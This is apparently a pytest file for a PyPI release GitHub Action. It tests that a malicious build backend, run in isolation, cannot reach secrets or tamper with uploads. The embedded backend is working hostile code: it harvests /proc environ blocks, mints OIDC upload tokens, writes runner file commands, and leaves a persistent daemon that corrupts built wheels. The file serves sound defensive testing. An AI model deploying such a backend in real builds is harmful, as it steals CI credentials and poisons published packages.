"""The build is untrusted code: run as the action runs (its own process, as root, with
the environment a Docker action gets), a hostile in-tree backend gets nothing.

The backend (standard library only) tries, from its sdist hook: every /proc/*/environ
it can open, minting an upload token through the job's OIDC request variables, writing
the runner's file commands, and leaving a double-forked setsid daemon behind that writes
a workflow command to the action's standard output and swaps the built files. While the
hook waits, the test reads the action's own environment block (as root: more than any
same-user reader can).
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import select
import shutil
import subprocess
import sys
import sysconfig
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import GITHUB_TOKEN, Index
from support.oidc import GitHubOIDC
from support.projects import Project, git

from release.dists import read_dists
from release.errors import DistributionError
from release.gha import Console
from release.upload import Uploader

REPO = Path(__file__).resolve().parent.parent
RUNTIME_TOKEN = "actions-runtime-token-0123456789"
FILE_COMMANDS = (
    "GITHUB_ENV",
    "GITHUB_PATH",
    "GITHUB_OUTPUT",
    "GITHUB_STATE",
    "GITHUB_STEP_SUMMARY",
)
WAIT = 240.0  # seconds, at most, for the action to reach the hook

BACKEND = r'''
"""A hostile build backend: standard library only."""
import base64, hashlib, io, json, os, signal, sys, tarfile, time, urllib.request, zipfile

NAME, VERSION = "hostile_sample", "1.0.0"
REPORT = os.environ.get("HOSTILE_REPORT", "")
METADATA = f"Metadata-Version: 2.1\nName: hostile-sample\nVersion: {VERSION}\nSummary: x\n"


def get_requires_for_build_sdist(config_settings=None):
    return []


def get_requires_for_build_wheel(config_settings=None):
    return []


def _attack(out_dir):
    found = {"uid": os.getuid(), "action_pid": os.getppid(), "environs": {}, "denied": []}
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                found["environs"][pid] = fh.read().decode("utf-8", "replace")
        except OSError:
            found["denied"].append(pid)
    # Every variable any readable process has, the build's own first.
    seen = dict(os.environ)
    for text in found["environs"].values():
        for item in text.split("\0"):
            key, _, value = item.partition("=")
            seen.setdefault(key, value)
    url = seen.get("ACTIONS_ID_TOKEN_REQUEST_URL")
    token = seen.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN")
    found["mint"] = "no request variables"
    if url:
        try:
            auth = {"Authorization": f"bearer {token}"}
            req = urllib.request.Request(url + "&audience=pypi", headers=auth)
            found["mint"] = urllib.request.urlopen(req, timeout=10).read().decode()
        except Exception as exc:
            found["mint"] = f"failed: {exc!r}"
    found["file_commands"] = {}
    for name in FILE_COMMANDS_HERE:
        path = seen.get(name)
        if not path:
            continue
        try:
            with open(path, "a") as fh:
                fh.write("HOSTILE=1\n::warning::HOSTILE-FILE-COMMAND\n")
            found["file_commands"][name] = "written"
        except OSError as exc:
            found["file_commands"][name] = repr(exc)
    return found


def _daemon(out_dir, action_pid, report_dir):
    """Double fork, new session: outlives the hook unless something kills it."""
    if os.fork():
        os.wait()
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    with open(os.path.join(report_dir, "daemon.pid"), "w") as fh:
        fh.write(str(os.getpid()))
    while True:
        try:
            with open(f"/proc/{action_pid}/fd/1", "w") as out:
                out.write("::warning::HOSTILE-DAEMON\n")
        except OSError:
            pass
        # The wheel, once there: what the action checks, hashes and uploads.
        try:
            for name in os.listdir(out_dir):
                if name.endswith(".whl"):
                    with open(os.path.join(out_dir, name), "r+b") as fh:
                        fh.seek(-7, 2)
                        fh.write(b"SWAPPED")
        except OSError:
            pass
        time.sleep(0.01)


def _wait_for_the_test(found, report_dir):
    with open(os.path.join(report_dir, "report.json"), "w") as fh:
        json.dump(found, fh)
    if not os.path.exists(os.path.join(report_dir, "to-test")):  # no test looks in
        return
    with open(os.path.join(report_dir, "to-test"), "w") as fh:
        fh.write(str(found["action_pid"]))
    with open(os.path.join(report_dir, "from-test")) as fh:
        fh.read()


def build_sdist(sdist_directory, config_settings=None):
    report_dir = os.path.dirname(REPORT)
    found = _attack(sdist_directory)
    _daemon(sdist_directory, found["action_pid"], report_dir)
    _wait_for_the_test(found, report_dir)
    base = f"{NAME}-{VERSION}"
    path = os.path.join(sdist_directory, base + ".tar.gz")
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tf:
        for rel in ("pyproject.toml", "_build/backend.py", "hostile_sample/__init__.py"):
            tf.add(rel, arcname=f"{base}/{rel}")
        data = METADATA.encode()
        info = tarfile.TarInfo(f"{base}/PKG-INFO")
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    return os.path.basename(path)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = f"{NAME}-{VERSION}-py3-none-any.whl"
    info = f"{NAME}-{VERSION}.dist-info"
    files = {
        "hostile_sample/__init__.py": open("hostile_sample/__init__.py", "rb").read(),
        f"{info}/METADATA": METADATA.encode(),
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = ""
    for arc, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record += f"{arc},sha256={digest},{len(data)}\n"
    record += f"{info}/RECORD,,\n"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w", zipfile.ZIP_DEFLATED) as zf:
        for arc, data in [*files.items(), (f"{info}/RECORD", record.encode())]:
            zf.writestr(zipfile.ZipInfo(arc, (2020, 1, 1, 0, 0, 0)), data)
    return name
'''.replace("FILE_COMMANDS_HERE", repr(FILE_COMMANDS))


def open_to_others(path: Path, bits: int) -> bool:
    path = Path(os.path.realpath(path))
    if any(not os.stat(folder).st_mode & 0o001 for folder in path.parents):
        return False
    return os.stat(path).st_mode & bits == bits


@pytest.fixture(scope="module")
def python() -> Iterator[tuple[str, dict[str, str]]]:
    """An interpreter for the action that the build's user can run too, as in the image
    (/usr/local), and the variables it needs. Where this one lives in a private folder
    (a pyenv under /root, 0700), a copy of it made of hard links (its executable, its
    shared library, its standard library) in a folder open to all, with this
    environment's packages on its path."""
    stdlib = Path(sysconfig.get_paths()["stdlib"])
    real = Path(os.path.realpath(sys.executable))
    if open_to_others(real, 0o001) and open_to_others(stdlib, 0o005):
        yield sys.executable, {}
        return
    folder = Path(tempfile.mkdtemp(prefix="isolation-python-"))
    folder.chmod(0o755)
    prefix = Path(sys.base_prefix)
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    try:
        for top, dirs, files in os.walk(prefix / "lib" / version):
            rel = Path(top).relative_to(prefix)
            dirs[:] = [d for d in dirs if d not in ("site-packages", "__pycache__", "test")]
            (folder / rel).mkdir(parents=True, exist_ok=True)
            for name in files:
                os.link(Path(top) / name, folder / rel / name)
        (folder / "bin").mkdir()
        os.link(real, folder / "bin" / version)
        for lib in (prefix / "lib").glob("libpython*.so*"):
            os.link(lib, folder / "lib" / lib.name)
        site = folder / "lib" / version / "site-packages"
        site.mkdir()
        (site / "_action.pth").write_text(sysconfig.get_paths()["purelib"] + "\n")
        (folder / "bin" / "uv").symlink_to((Path(sys.executable).parent / "uv").resolve())
        for path in folder.rglob("*"):
            if path.is_dir() and not path.is_symlink():
                path.chmod(0o755)
        yield str(folder / "bin" / version), {"LD_LIBRARY_PATH": str(folder / "lib")}
    finally:
        shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
def exchange() -> Iterator[Path]:
    """A folder the build's user may write into (the backend's report, two FIFOs)."""
    folder = Path(tempfile.mkdtemp(prefix="isolation-report-"))
    folder.chmod(0o777)
    for name in ("to-test", "from-test"):
        os.mkfifo(folder / name)
        (folder / name).chmod(0o666)
    try:
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def hostile_project(path: Path) -> Project:
    (path / "_build").mkdir(parents=True)
    (path / "_build" / "backend.py").write_text(BACKEND)
    (path / "hostile_sample").mkdir()
    (path / "hostile_sample" / "__init__.py").write_text('"""Hostile."""\n')
    (path / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n\n'
        '[project]\nname = "hostile-sample"\nversion = "1.0.0"\n'
    )
    (path / ".gitignore").write_text("dist/\n")
    project = Project(path)
    git(path, "init", "-q")
    project.commit("initial")
    return project


def alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat", "rb") as fh:
            return fh.read().rsplit(b")", 1)[1].split()[0] != b"Z"
    except FileNotFoundError:
        return False


def processes_of(uid: int) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            status = Path(f"/proc/{entry}/status").read_text()
        except OSError:
            continue
        uids = next(line.split()[1:] for line in status.splitlines() if line.startswith("Uid:"))
        if str(uid) in uids and alive(int(entry)):
            found.append(int(entry))
    return found


def test_a_hostile_backend_gets_nothing(
    tmp_path: Path, pypiserver: Index, action, python: tuple[str, dict[str, str]], exchange: Path
) -> None:
    project = hostile_project(tmp_path / "workspace")
    tag = project.release("1.0.0")
    with GitHubOIDC(ref=f"refs/tags/{tag}", sha=project.head) as oidc:
        env = action.env(project, tag, pypiserver, verify_metadata="false")
        commands = tmp_path / "file_commands"
        commands.mkdir()
        for name in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_STATE"):
            (commands / name).touch()
            env[name] = str(commands / name)
        env.update(
            ACTIONS_ID_TOKEN_REQUEST_URL=oidc.request_url,
            ACTIONS_ID_TOKEN_REQUEST_TOKEN=oidc.request_token,
            ACTIONS_RUNTIME_TOKEN=RUNTIME_TOKEN,
            HOSTILE_REPORT=str(exchange / "report.json"),
            **python[1],
        )
        secrets = [pypiserver.password, GITHUB_TOKEN, oidc.request_token, RUNTIME_TOKEN]
        proc = subprocess.Popen(
            [python[0], "-B", str(REPO / "entrypoint.py")],
            env=env,
            cwd=project.path,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
        )
        try:
            # The hook waits on a FIFO: while it does, the action's environment block is
            # read here (as root) and holds no secret.
            fd = os.open(exchange / "to-test", os.O_RDONLY | os.O_NONBLOCK)
            got = b""
            end = time.monotonic() + WAIT
            with os.fdopen(fd, "rb") as fifo:
                # Bounded waits on the FIFO, each followed by a look at whether the
                # action still runs (a FIFO no writer opened yet never reports an end).
                while not got and proc.poll() is None and time.monotonic() < end:
                    select.select([fifo], [], [], 1.0)
                    got = fifo.read() or b""
            if not got:
                proc.kill()
                pytest.fail(
                    f"the backend's hook was never reached:\n{proc.communicate()[0].decode()}"
                )
            action_pid = int(got)
            assert action_pid == proc.pid  # the action itself, its block blanked
            environ = Path(f"/proc/{action_pid}/environ").read_bytes().decode()
            assert environ  # read
            for secret in secrets:
                assert secret not in environ
            assert "INPUT_PASSWORD=" not in environ
            with open(exchange / "from-test", "w") as go:
                go.write("go")
            out, _ = proc.communicate(timeout=WAIT)
        finally:
            if proc.poll() is None:
                proc.kill()
                proc.wait()
        output = out.decode()
        assert proc.returncode == 0, output

        report = json.loads((exchange / "report.json").read_text())
        # Run as a user of its own, which cannot read the action's environment.
        assert report["uid"] != 0
        assert str(action_pid) in report["denied"]
        everything = json.dumps(report)
        for secret in secrets:
            assert secret not in everything
        # No token minted: the request variables never reached it.
        assert report["mint"] == "no request variables"
        assert oidc.requests == 0
        assert oidc.issued == []
    # No file command reached: none was in its environment, none readable elsewhere.
    assert report["file_commands"] == {}
    for name in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_STATE"):
        assert (commands / name).read_text() == ""
    assert "HOSTILE" not in Path(env["GITHUB_OUTPUT"]).read_text()
    assert "HOSTILE" not in Path(env["GITHUB_STEP_SUMMARY"]).read_text()
    # The daemon was killed when the sdist's build ended, and said so; nothing of the
    # build's user runs on.
    daemon = int((exchange / "daemon.pid").read_text())
    assert not alive(daemon)
    assert processes_of(report["uid"]) == []
    assert (
        "::warning title=Build processes killed::The build left 1 process(es) running: killed."
        in output
    )
    assert "HOSTILE-DAEMON" not in output
    # What the index has is what was checked: no swapped byte.
    dist = project.path / "dist"
    served = pypiserver.files()
    assert sorted(served) == [
        "hostile_sample-1.0.0-py3-none-any.whl",
        "hostile_sample-1.0.0.tar.gz",
    ]
    for name, sha256 in served.items():
        data = (dist / name).read_bytes()
        assert b"SWAPPED" not in data
        assert hashlib.sha256(data).hexdigest() == sha256


def test_a_file_changed_after_the_checks_is_not_uploaded(tmp_path: Path, pypiserver: Index) -> None:
    """The bytes sent are hashed as they go: a file rewritten after it was checked is
    cut short before its last byte, and the index has nothing of it."""
    import zipfile

    import requests

    wheel = tmp_path / "flit_sample-1.0.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as zf:
        zf.writestr("flit_sample/__init__.py", '"""x"""\n')
        zf.writestr(
            "flit_sample-1.0.0.dist-info/METADATA",
            "Metadata-Version: 2.1\nName: flit_sample\nVersion: 1.0.0\nSummary: x\n",
        )
        zf.writestr("flit_sample-1.0.0.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
        zf.writestr("flit_sample-1.0.0.dist-info/RECORD", "")
    (dist,) = read_dists([wheel])  # checked: its sha256 is the form's
    data = bytearray(wheel.read_bytes())
    data[-1] ^= 0xFF  # then rewritten in place: same size, other bytes
    wheel.write_bytes(bytes(data))
    with requests.Session() as session:
        uploader = Uploader(
            repository_url=pypiserver.upload_url,
            credential=lambda valid_for: (pypiserver.user, pypiserver.password),
            session=session,
            read_index=lambda _session: pytest.fail("nothing to settle"),
            console=Console(actions=True, stream=io.StringIO()),
        )
        with pytest.raises(DistributionError) as info:
            uploader.upload(dist)
    assert (info.value.code, info.value.message) == (
        "dist-changed-while-uploading",
        "flit_sample-1.0.0-py3-none-any.whl changed after it was checked: its sha256 is now "
        f"{hashlib.sha256(bytes(data)).hexdigest()}, not {dist.sha256}. Its upload was "
        "stopped before the last byte.",
    )
    assert pypiserver.files() == {}
